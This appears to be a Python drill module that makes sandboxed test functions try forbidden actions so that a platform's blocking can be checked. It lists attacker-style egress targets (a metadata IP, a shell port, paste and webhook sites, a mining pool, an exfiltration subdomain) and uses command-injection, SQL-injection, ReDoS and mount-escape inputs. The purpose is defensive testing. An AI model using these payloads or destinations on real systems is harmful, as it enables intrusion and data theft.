"""Steps of code that runs: where it wants to go, what it tries, and how it fails."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor

from casemate.drills.actors import Actors

_SENT = "exfiltration-of-what-it-has-found-0123456789abcdef0123456789"
TO: tuple[tuple[str, int], ...] = (
    ("stats.drill.example", 443), ("169.254.169.254", 80), ("mail.drill.example", 25),
    ("irc.drill.example", 6667), ("host.drill.example", 22), ("shell.drill.example", 4444),
    ("database.drill.example", 5432), ("directory.drill.example", 389),
    ("names.drill.example", 53), ("cluster.drill.example", 2375), ("x.pastebin.com", 443),
    ("x.webhook.site", 443), ("pool.minexmr.com", 443), ("api.telegram.org", 443),
    ("pypi.org", 443), ("drill.onion", 443), (f"{_SENT}.drill.example", 443),
    ("localhost", 9), ("disguised%2edrill.example", 443), ("2852039166", 80),
)  # fmt: skip
"""Where a function has no right to connect; nothing is sent there."""
_TOGETHER = 8


def egress(actors: Actors) -> None:
    """Want to reach what it is not granted: hosts, ports, names, many at once."""
    actors.invoke("holder", {"do": "connect", "to": TO})
    actors.invoke(
        "holder", {"do": "connect", "to": [("db.drill.example", n) for n in range(1, 24)]}
    )
    names = [(f"x{number}9f3a7c1b2.evil.example", 443) for number in range(17)]
    actors.invoke("holder", {"do": "connect", "to": names})


def failures(actors: Actors) -> None:
    """Fail in each way, again and again, right after a deployment."""

    def call(function: str, event: dict[str, object], times: int) -> None:
        with ThreadPoolExecutor(_TOGETHER) as several:
            for _ in range(times):
                several.submit(actors.invoke, function, event)

    call("careless", {"how": "raises"}, 22)
    call("careless", {"how": "dies"}, 12)
    call("sleeper", {"how": "too_late"}, 55)


def escapes(actors: Actors) -> None:
    """Have one function blocked at a sink, at the proxy and by the kernel; others by the kernel."""
    actors.invoke("holder", {"do": "run", "text": "x; id"})
    actors.invoke("holder", {"do": "connect", "to": [("chain.drill.example", 443)]})
    for function, event in (
        ("holder", {"do": "mount"}),
        ("careless", {"how": "mounts"}),
        ("attacker", {"attack": "call", "name": "mount-tmpfs"}),
        ("attacker", {"attack": "x32_call"}),
    ):
        actors.invoke(function, event)


def capabilities(actors: Actors) -> None:
    """Use secrets and objects that are not granted."""
    for name in ("secret", "secret_unknown", "secret_third"):
        actors.invoke("greedy", {"use": name})
    for _ in range(16):
        actors.invoke("holder", {"do": "outside"})


def sinks(actors: Actors) -> None:
    """Have data mean what they must not, at sinks that no other attack has, and out of a table."""
    actors.invoke("victim", {"text": "regex (a+)+$"})
    actors.invoke("victim", {"text": "template $PATH $HOME"})
    actors.invoke("victim", {"text": "store x' OR '1'='1"})
    actors.invoke("victim", {"text": "stored -"})
